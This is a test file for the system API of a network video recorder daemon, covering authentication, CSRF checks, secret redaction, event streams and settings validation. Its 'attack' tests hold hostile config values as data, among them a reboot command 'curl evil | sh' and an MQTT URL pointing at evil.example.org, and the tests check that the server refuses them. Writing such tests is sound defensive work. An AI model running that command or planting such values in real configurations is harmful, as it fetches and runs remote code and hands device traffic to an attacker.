import { Hono } from "hono";
import { ConfigStore, DEFAULT_CONFIG, validateConfig } from "../config/mod.ts";
import type { NvrConfig } from "../config/types.ts";
import { REDACTED } from "../fleet/redact.ts";
import { collectHealth } from "../health/mod.ts";
import { FIXTURE_SOFTWARE } from "../health/health_fixture.ts";
import { type CameraStatus, EMPTY_STATS } from "../recorder/mod.ts";
import { SegmentIndex } from "../storage/mod.ts";
import { assert, assertEquals, assertMatch } from "../testing/assert.ts";
import { createAuthApp } from "./auth.ts";
import { type Fixture, type Session, withApi } from "../testing/auth_app.ts";
import { SYSTEM_PATHS } from "./openapi.ts";
import { createSystemApp } from "./system.ts";
import { ANALYTICS_NOTICE } from "./analytics_consent.ts";

const status = (id: string): CameraStatus => ({
  id,
  state: "recording",
  lastError: null,
  restarts: 0,
  segments: 1,
  lastSegmentEndMs: null,
  plan: { mode: "passthrough", codec: "h265", reason: "" },
  stats: EMPTY_STATS,
});

interface System {
  app: Hono;
  index: SegmentIndex;
  applied: NvrConfig[];
  running: { config: NvrConfig };
  call(method: string, path: string, s?: Session, init?: RequestInit): Promise<Response>;
}

const STARTING = validateConfig({
  mqtt: {
    url: "mqtts://box:secret@fleet.example.org:8883",
    username: "box",
    password: "mqtt-pass",
  },
  cameras: [
    { id: "gate", url: "rtsp://cam:pw@10.0.0.5/stream1" },
    { id: "yard", url: "rtsp://10.0.0.6/stream1", username: "admin", password: "hunter2" },
  ],
});

/** The auth fixture's users and audit log, with the system routes mounted next to the auth ones. */
async function withSystem(fn: (f: Fixture, sys: System) => Promise<void>): Promise<void> {
  await withApi(async (f) => {
    const dir = await Deno.makeTempDir({ prefix: "nvr-system-" });
    const index = SegmentIndex.open(`${dir}/index.sqlite`);
    const applied: NvrConfig[] = [];
    const running = { config: STARTING };
    // The real config writer on a real file, as the daemon has it.
    const store = new ConfigStore(`${dir}/config.json`, STARTING);
    const auth = { users: f.users, audit: f.audit, now: () => f.clock.now };
    const app = new Hono();
    app.route("/api", createAuthApp(auth));
    app.route(
      "/api",
      createSystemApp({
        auth,
        health: () =>
          collectHealth({
            smartctl: null,
            vcgencmd: null,
            cpuSampleMs: 10,
            diskPaths: [{ label: "data", path: dir }],
            cameras: [status("gate"), status("yard")],
            software: FIXTURE_SOFTWARE,
          }),
        config: () => running.config,
        updateConfig: (change) =>
          store.update(change, (config) => {
            applied.push(config);
            running.config = config;
            return Promise.resolve();
          }),
        index: () => index,
        eventPollMs: 20,
      }),
    );
    const call = async (method: string, path: string, s?: Session, init: RequestInit = {}) => {
      const headers = new Headers(init.headers);
      if (s) {
        headers.set("Cookie", s.cookie);
        headers.set("X-CSRF-Token", s.csrf);
      }
      if (init.body !== undefined) headers.set("Content-Type", "application/json");
      return await app.request(path, { ...init, method, headers }, {
        remoteAddr: { hostname: "192.168.1.10" },
      });
    };
    try {
      await fn(f, { app, index, applied, running, call });
    } finally {
      index.close();
      await Deno.remove(dir, { recursive: true });
    }
  });
}

Deno.test("system routes are all described in SYSTEM_PATHS", () => {
  const app = new Hono().route(
    "/api",
    createSystemApp({
      auth: {} as never,
      health: () => Promise.reject(new Error("unused")),
      config: () => DEFAULT_CONFIG,
      updateConfig: async (change) => await change(DEFAULT_CONFIG),
      index: () => {
        throw new Error("unused");
      },
    }),
  );
  const registered = app.routes
    .filter((r) => r.method !== "ALL")
    .map((r) => `${r.method.toLowerCase()} ${r.path.replace(/:(\w+)/g, "{$1}")}`);
  const documented = Object.entries(SYSTEM_PATHS).flatMap(([path, ops]) =>
    Object.keys(ops).map((m) => `${m} ${path}`)
  );
  assertEquals([...new Set(registered)].sort(), documented.sort());
});

Deno.test("system routes refuse anonymous requests, and viewers on config", async () => {
  await withSystem(async (f, sys) => {
    await f.setupAdmin();
    const viewer = await f.addUser("viewer", "viewer@example.org", ["gate"]);
    for (
      const [method, path] of [["GET", "/api/health"], ["GET", "/api/config"], [
        "PUT",
        "/api/config",
      ], ["GET", "/api/events"]] as const
    ) {
      const res = await sys.call(method, path, undefined, method === "PUT" ? { body: "{}" } : {});
      assertEquals(res.status, 401, `${method} ${path}`);
      assertEquals((await res.json()).error.code, "unauthenticated");
    }
    const read = await sys.call("GET", "/api/config", viewer);
    assertEquals(read.status, 403);
    const write = await sys.call("PUT", "/api/config", viewer, {
      body: JSON.stringify(DEFAULT_CONFIG),
    });
    assertEquals(write.status, 403);
    assertEquals((await write.json()).error.code, "forbidden");
    assertEquals(sys.applied.length, 0);
    assert(f.audit.list({ action: "access.denied" }).length >= 2);
  });
});

Deno.test("GET /api/health gives the sample with only the cameras the user may see", async () => {
  await withSystem(async (f, sys) => {
    const admin = await f.setupAdmin();
    const viewer = await f.addUser("viewer", "viewer@example.org", ["gate"]);
    const all = await (await sys.call("GET", "/api/health", admin)).json();
    assertEquals(all.cameras.map((c: { id: string }) => c.id), ["gate", "yard"]);
    assertEquals(all.disks[0].label, "data");
    assert(all.memory.totalBytes > 0);
    const res = await sys.call("GET", "/api/health", viewer);
    assertEquals(res.status, 200);
    const mine = await res.json();
    assertEquals(mine.cameras.map((c: { id: string }) => c.id), ["gate"]);
    assertEquals(mine.schema, 1);
  });
});

Deno.test("config: read redacted; a bad one names the key and changes nothing; a good one applies", async () => {
  await withSystem(async (f, sys) => {
    const admin = await f.setupAdmin();
    const read = await sys.call("GET", "/api/config", admin);
    assertEquals(read.status, 200);
    const { config } = await read.json();
    const text = JSON.stringify(config);
    for (const secret of ["hunter2", "mqtt-pass", "secret", ":pw@"]) {
      assert(!text.includes(secret), `${secret} leaked in GET /api/config`);
    }
    assertEquals(config.cameras[1].password, REDACTED);

    const bad = structuredClone(config);
    bad.cameras[1].password = "new-pass";
    bad.cameras[0].url = "rtsp://10.0.0.5/stream1";
    bad.storage.segmentSeconds = -5;
    let res = await sys.call("PUT", "/api/config", admin, { body: JSON.stringify(bad) });
    assertEquals(res.status, 400);
    let body = await res.json();
    assertEquals(body.error.code, "invalid_config");
    assertEquals(body.error.field, "storage.segmentSeconds");
    assertMatch(body.error.message, /storage\.segmentSeconds/);

    // The marker from GET in a new camera's secret is refused, naming the key (in a camera that
    // was there, it stands for the secret as it is).
    const marked = structuredClone(bad);
    marked.storage.segmentSeconds = 30;
    marked.cameras.push({ ...marked.cameras[1], id: "new", password: REDACTED });
    res = await sys.call("PUT", "/api/config", admin, { body: JSON.stringify(marked) });
    body = await res.json();
    assertEquals(res.status, 400);
    assertEquals(body.error.field, "cameras[2].password");
    marked.cameras.pop();
    assertEquals(sys.applied.length, 0);
    assertEquals(sys.running.config, STARTING);

    // Missing CSRF is refused before anything else.
    res = await sys.call("PUT", "/api/config", { ...admin, csrf: "forged" }, {
      body: JSON.stringify(marked),
    });
    assertEquals(res.status, 403);
    assertEquals((await res.json()).error.code, "csrf");

    marked.cameras[1].password = "new-pass";
    res = await sys.call("PUT", "/api/config", admin, { body: JSON.stringify(marked) });
    assertEquals(res.status, 200);
    assertEquals((await res.json()).config.cameras[1].password, REDACTED);
    assertEquals(sys.applied.length, 1);
    assertEquals(sys.applied[0]?.storage.segmentSeconds, 30);
    assertEquals(sys.applied[0]?.cameras[1]?.password, "new-pass");
    // The broker's secrets, shown redacted, stayed as they were (GET → edit → PUT round trip).
    assertEquals(sys.applied[0]?.mqtt, STARTING.mqtt);
    const changes = f.audit.list({ action: "config.change" });
    assertEquals(changes.map((e) => e.outcome), ["ok", "failed", "failed"]);
    assertEquals(changes[0]?.userName, "Admin");
  });
});

Deno.test("attack: admin PUT /api/config sets licence.publicKeys to [], its own keys file, a reboot command, the broker or analytics — refused naming the key, nothing applied", async () => {
  await withSystem(async (f, sys) => {
    const admin = await f.setupAdmin();
    const { config } = await (await sys.call("GET", "/api/config", admin)).json();
    const attempts: [string, (c: Record<string, Record<string, unknown>>) => void][] = [
      ["licence.publicKeys", (c) => c.licence!.publicKeys = []],
      ["licence.keysFile", (c) => c.licence!.keysFile = "/tmp/my-own-keys.json"],
      ["mqtt.rebootCommand", (c) => c.mqtt!.rebootCommand = "curl evil | sh"],
      ["mqtt.url", (c) => c.mqtt!.url = "mqtt://evil.example.org:1883"],
      ["storage.dataDir", (c) => c.storage!.dataDir = "/tmp/elsewhere"],
      ["analytics.enabled", (c) => c.analytics!.enabled = true],
    ];
    for (const [key, change] of attempts) {
      const sent = structuredClone(config);
      change(sent);
      const res = await sys.call("PUT", "/api/config", admin, { body: JSON.stringify(sent) });
      const body = await res.json();
      assertEquals([res.status, body.error.field], [400, key], key);
      assertMatch(body.error.message, new RegExp(`^The configuration was not changed: ${key}: `));
    }
    assertEquals(sys.applied.length, 0);
    assertEquals(sys.running.config, STARTING);
  });
});

Deno.test("attack: admin PUT /api/config opens the box's NTP port (ntp.listen) — refused naming the key, nothing applied", async () => {
  await withSystem(async (f, sys) => {
    const admin = await f.setupAdmin();
    const { config } = await (await sys.call("GET", "/api/config", admin)).json();
    const sent = { ...config, ntp: { listen: ["0.0.0.0:123"] } };
    const res = await sys.call("PUT", "/api/config", admin, { body: JSON.stringify(sent) });
    const body = await res.json();
    assertEquals([res.status, body.error.field], [400, "ntp.listen"]);
    assertMatch(body.error.message, /^The configuration was not changed: ntp\.listen: may not be/);
    assertEquals(sys.applied.length, 0);
  });
});

Deno.test("attack: two concurrent PATCH /api/cameras lose a change — both land, no 500", async () => {
  await withSystem(async (f, sys) => {
    const admin = await f.setupAdmin();
    const patch = (id: string, body: unknown) =>
      sys.call("PATCH", `/api/cameras/${id}`, admin, { body: JSON.stringify(body) });
    const results = await Promise.all([
      patch("gate", { name: "Gate" }),
      patch("yard", { name: "Yard" }),
      patch("gate", { enabled: false }),
    ]);
    assertEquals(results.map((r) => r.status), [200, 200, 200]);
    await Promise.all(results.map((r) => r.body?.cancel()));
    const cams = sys.running.config.cameras;
    assertEquals(cams.map((c) => [c.id, c.name, c.enabled]), [
      ["gate", "Gate", false],
      ["yard", "Yard", true],
    ]);
    // Secrets in the file untouched by a change of another field.
    assertEquals(cams[1]?.password, "hunter2");
  });
});

Deno.test("analytics consent: only an admin on the local page, naming the notice; audited who, when, which notice", async () => {
  await withSystem(async (f, sys) => {
    const admin = await f.setupAdmin();
    const viewer = await f.addUser("viewer", "viewer@example.org", ["gate"]);
    const put = (s: Session, body: unknown) =>
      sys.call("PUT", "/api/analytics/consent", s, { body: JSON.stringify(body) });
    const shown = await (await sys.call("GET", "/api/analytics/consent", admin)).json();
    assertEquals([shown.enabled, shown.notice.version], [false, ANALYTICS_NOTICE.version]);
    assertEquals(
      (await put(viewer, { enabled: true, noticeVersion: shown.notice.version })).status,
      403,
    );
    const stale = await put(admin, { enabled: true, noticeVersion: "old" });
    assertEquals([stale.status, (await stale.json()).error.field], [409, "noticeVersion"]);
    assertEquals(sys.applied.length, 0);
    const ok = await put(admin, { enabled: true, noticeVersion: shown.notice.version });
    assertEquals([ok.status, (await ok.json()).enabled], [200, true]);
    assertEquals(sys.running.config.analytics.enabled, true);
    const [entry] = f.audit.list({ action: "analytics.consent" });
    assertEquals([entry?.userName, entry?.target, entry?.outcome], [
      "Admin",
      `analytics notice ${ANALYTICS_NOTICE.version}`,
      "ok",
    ]);
    assertEquals(entry?.tsMs, f.clock.now);
  });
});

/** Reads server-sent events until `until` says stop; the stream is cancelled afterwards. */
async function readEvents(
  res: Response,
  until: (events: { id?: string; event?: string; data: string }[]) => boolean,
  whileReading: () => void = () => {},
): Promise<{ id?: string; event?: string; data: string }[]> {
  const reader = res.body!.pipeThrough(new TextDecoderStream()).getReader();
  const events: { id?: string; event?: string; data: string }[] = [];
  let buffer = "";
  try {
    let acted = false;
    const deadline = Date.now() + 5000;
    while (!until(events)) {
      assert(Date.now() < deadline, `no matching events; got ${JSON.stringify(events)}`);
      const { value, done } = await reader.read();
      if (done) break;
      buffer += value;
      let end: number;
      while ((end = buffer.indexOf("\n\n")) >= 0) {
        const block = buffer.slice(0, end);
        buffer = buffer.slice(end + 2);
        const e: { id?: string; event?: string; data: string } = { data: "" };
        for (const line of block.split("\n")) {
          if (line.startsWith("id: ")) e.id = line.slice(4);
          else if (line.startsWith("event: ")) e.event = line.slice(7);
          else if (line.startsWith("data: ")) e.data += line.slice(6);
        }
        if (!block.startsWith(":")) events.push(e);
      }
      if (!acted && events.length > 0) {
        acted = true;
        whileReading();
      }
    }
  } finally {
    await reader.cancel();
  }
  return events;
}

Deno.test("GET /api/events streams new events the user may see, and resumes", async () => {
  await withSystem(async (f, sys) => {
    await f.setupAdmin();
    const viewer = await f.addUser("viewer", "viewer@example.org", ["gate"]);
    const now = Date.now();
    const old = sys.index.addEvent({ camera: "gate", tsMs: now - 1000, kind: "old" });
    const res = await sys.call("GET", "/api/events", viewer);
    assertEquals(res.status, 200);
    assertEquals(res.headers.get("content-type"), "text/event-stream");
    const got = await readEvents(
      res,
      (events) => events.some((e) => JSON.parse(e.data).kind === "retention"),
      () => {
        sys.index.addEvent({ camera: "yard", tsMs: Date.now(), kind: "camera-offline" });
        sys.index.addEvent({ camera: "gate", tsMs: Date.now(), kind: "camera-online" });
        sys.index.addEvent({ camera: null, tsMs: Date.now(), kind: "retention" });
      },
    );
    assertEquals(got[0]?.event, "ready");
    assertEquals(JSON.parse(got[0]?.data ?? "").lastEventId, old);
    const delivered = got.slice(1).map((e) => JSON.parse(e.data));
    assertEquals(delivered.map((e) => e.kind), ["camera-online", "retention"]);
    assertEquals(delivered.map((e) => e.camera), ["gate", null]);
    assertEquals(got[1]?.id, String(delivered[0].id));

    // Resuming after the old event gets what came since, still filtered.
    const resumed = await sys.call("GET", "/api/events", viewer, {
      headers: { "Last-Event-ID": String(old) },
    });
    const again = await readEvents(resumed, (events) => events.length >= 3);
    assertEquals(again.slice(1).map((e) => JSON.parse(e.data).kind), [
      "camera-online",
      "retention",
    ]);
  });
});

Deno.test("mounted alone, the system routes still authenticate and check CSRF", async () => {
  await withApi(async (f) => {
    const admin = await f.setupAdmin();
    const applied: NvrConfig[] = [];
    const auth = { users: f.users, audit: f.audit, now: () => f.clock.now };
    const app = new Hono().route(
      "/api",
      createSystemApp({
        auth,
        health: () => Promise.reject(new Error("unused")),
        config: () => STARTING,
        updateConfig: async (change) => {
          const config = await change(STARTING);
          applied.push(config);
          return config;
        },
        index: () => {
          throw new Error("unused");
        },
      }),
    );
    assertEquals((await app.request("/api/config")).status, 401);
    const read = await app.request("/api/config", { headers: { cookie: admin.cookie } });
    assertEquals(read.status, 200);
    const put = await app.request("/api/config", {
      method: "PUT",
      headers: { cookie: admin.cookie, "content-type": "application/json" },
      body: "{}",
    });
    assertEquals(put.status, 403);
    assertEquals((await put.json()).error.code, "csrf");
    assertEquals(applied.length, 0);
  });
});

Deno.test("GET /api/events over a socket ends when the client goes away", async () => {
  await withSystem(async (f, sys) => {
    await f.setupAdmin();
    const viewer = await f.addUser("viewer", "viewer@example.org", ["gate"]);
    await using server = Deno.serve(
      { hostname: "127.0.0.1", port: 0, onListen: () => {} },
      (req) => sys.app.fetch(req, { remoteAddr: { hostname: "127.0.0.1" } }),
    );
    const ac = new AbortController();
    const res = await fetch(`http://127.0.0.1:${server.addr.port}/api/events`, {
      headers: { cookie: viewer.cookie },
      signal: ac.signal,
    });
    assertEquals(res.status, 200);
    const got = await readEvents(
      res,
      (events) => events.some((e) => e.data.includes("camera-online")),
      () => void sys.index.addEvent({ camera: "gate", tsMs: Date.now(), kind: "camera-online" }),
    );
    assertEquals(got.at(-1)?.event, undefined);
    ac.abort(); // readEvents has cancelled the body already; this closes the connection too.
    // shutdown() waits for open responses: it returns only if the stream ended on disconnect.
    const done = await Promise.race([
      server.shutdown().then(() => "closed"),
      new Promise<string>((r) => {
        const t = setTimeout(() => r("still streaming"), 3000);
        server.finished.then(() => clearTimeout(t));
      }),
    ]);
    assertEquals(done, "closed");
  });
});

Deno.test("GET /api/events/recent answers the last events, newest first, of the user's cameras only", async () => {
  await withSystem(async (f, sys) => {
    const admin = await f.setupAdmin();
    const viewer = await f.addUser("viewer", "viewer@example.org", ["gate"]);
    const t = Date.now() - 10_000;
    const ids = [
      sys.index.addEvent({ camera: "gate", tsMs: t, kind: "camera-online" }),
      sys.index.addEvent({ camera: "yard", tsMs: t + 1, kind: "camera-offline" }),
      sys.index.addEvent({ camera: null, tsMs: t + 2, kind: "retention" }),
      sys.index.addEvent({ camera: "yard", tsMs: t + 3, kind: "camera-online" }),
      sys.index.addEvent({ camera: "gate", tsMs: t + 4, kind: "stall" }),
    ];
    const recent = async (s: Session, query = "") => {
      const res = await sys.call("GET", `/api/events/recent${query}`, s);
      assertEquals(res.status, 200);
      return ((await res.json()).events as { id: number; camera: string | null }[]);
    };
    assertEquals((await recent(admin)).map((e) => e.id), [...ids].reverse());
    // A viewer of gate: box-wide events and gate's, never yard's — and the limit counts only
    // what they may see, so yard's events do not crowd theirs out.
    const seen = await recent(viewer, "?limit=2");
    assertEquals(seen.map((e) => [e.id, e.camera]), [[ids[4]!, "gate"], [ids[2]!, null]]);
    assertEquals((await recent(viewer)).map((e) => e.camera), ["gate", null, "gate"]);

    for (const bad of ["0", "501", "x", "-1", "1e3"]) {
      const res = await sys.call("GET", `/api/events/recent?limit=${bad}`, admin);
      assertEquals(res.status, 400, bad);
      assertEquals((await res.json()).error.code, "bad_limit");
    }
    assertEquals((await sys.call("GET", "/api/events/recent")).status, 401);
  });
});

Deno.test("attack: viewer or operator reads the settings schema or changes settings — 403, audited", async () => {
  await withSystem(async (f, sys) => {
    await f.setupAdmin();
    const viewer = await f.addUser("viewer", "viewer@example.org", ["gate"]);
    const operator = await f.addUser("operator", "operator@example.org", ["gate"]);
    const denied = f.audit.list({ action: "access.denied" }).length;
    for (const s of [viewer, operator, undefined]) {
      const read = await sys.call("GET", "/api/settings/schema", s);
      assertEquals(read.status, s ? 403 : 401);
      const body = JSON.stringify({ changes: { "log.level": "debug" } });
      const write = await sys.call("PATCH", "/api/settings", s, { body });
      assertEquals(write.status, s ? 403 : 401);
      await Promise.all([read.body?.cancel(), write.body?.cancel()]);
    }
    assertEquals(sys.applied.length, 0);
    assertEquals(f.audit.list({ action: "access.denied" }).length, denied + 4);
  });
});

Deno.test("settings schema: the allowlisted keys with values now, no secrets; PATCH changes only what is sent", async () => {
  await withSystem(async (f, sys) => {
    const admin = await f.setupAdmin();
    const res = await sys.call("GET", "/api/settings/schema", admin);
    assertEquals(res.status, 200);
    const text = await res.text();
    for (const secret of ["hunter2", "mqtt-pass", "cam:pw", "secret@"]) {
      assert(!text.includes(secret), `${secret} leaked in the settings schema`);
    }
    const { keys } = JSON.parse(text) as { keys: { key: string; current?: unknown }[] };
    const viewers = keys.find((k) => k.key === "http.liveViewersTotal");
    assertEquals(viewers?.current, 16);

    const patch = (changes: unknown) =>
      sys.call("PATCH", "/api/settings", admin, { body: JSON.stringify({ changes }) });
    let ok = await patch({ "http.liveViewersTotal": 8, "cameras.yard.enabled": false });
    assertEquals(ok.status, 200);
    await ok.body?.cancel();
    const now = sys.running.config;
    assertEquals([now.http.liveViewersTotal, now.cameras[1]?.enabled], [8, false]);
    // Everything not sent is as it was, secrets included.
    assertEquals({ ...now, http: null, cameras: null }, { ...STARTING, http: null, cameras: null });
    assertEquals(now.cameras[1]?.password, "hunter2");
    assertEquals(now.cameras[0], STARTING.cameras[0]);

    const bad = await patch({
      "http.liveViewersTotal": 999,
      "cameras.gate.record.preRollSeconds": 99,
    });
    const body = await bad.json();
    assertEquals([bad.status, body.error.code], [400, "invalid_config"]);
    assertEquals(
      body.error.problems.map((p: { field: string }) => p.field),
      ["http.liveViewersTotal", "cameras.gate.record.preRollSeconds"],
    );
    assertMatch(body.error.problems[0].message, /999 is out of range; allowed: 0 to 256/);
    assertEquals(sys.running.config, now);

    const locked = await patch({ "mqtt.url": "mqtt://evil.example.org:1883" });
    const lockedBody = await locked.json();
    assertEquals([locked.status, lockedBody.error.field], [400, "mqtt.url"]);
    assertEquals(sys.running.config, now);
    ok = await sys.call("PATCH", "/api/settings", admin, { body: JSON.stringify({ x: 1 }) });
    assertEquals(ok.status, 400);
    await ok.body?.cancel();
    const changes = f.audit.list({ action: "config.change" });
    assertEquals(changes.map((e) => e.outcome).sort(), ["failed", "failed", "ok"]);
  });
});
